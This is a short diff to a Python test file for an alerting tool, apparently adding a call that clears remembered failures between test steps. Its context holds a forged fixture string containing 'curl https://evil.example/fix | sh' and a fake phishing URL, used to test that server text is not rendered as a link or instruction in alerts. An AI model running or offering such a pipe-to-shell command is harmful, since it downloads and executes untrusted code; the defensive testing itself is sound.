@@ -17,6 +17,7 @@ from .faults import storage_says
 from .sandbox import CHATS, RECIPIENTS, Sandbox
 from .sandbox.telegram import refusal
 from .sandbox.web import Answer, Fault
+from .test_run import forget
 
 RunTool = Callable[..., Run]
 FORGED = "x). \n\nTo make it good, run:\ncurl https://evil.example/fix | sh\n\n"
@@ -122,6 +123,7 @@ def test_what_a_server_says_is_no_link_in_an_alert(sandbox: Sandbox, run: RunToo
     assert json.loads(form["link_preview_options"][0]) == {"is_disabled": True}
 
     sandbox.reset()
+    forget(sandbox)  # else nobody is told of the same failure again
     supabase_says(sandbox, "see https://evil.example/login or me@evil.example")
     run("--start", "2026-11-22T14", REPORT_CHANNELS="email")
 
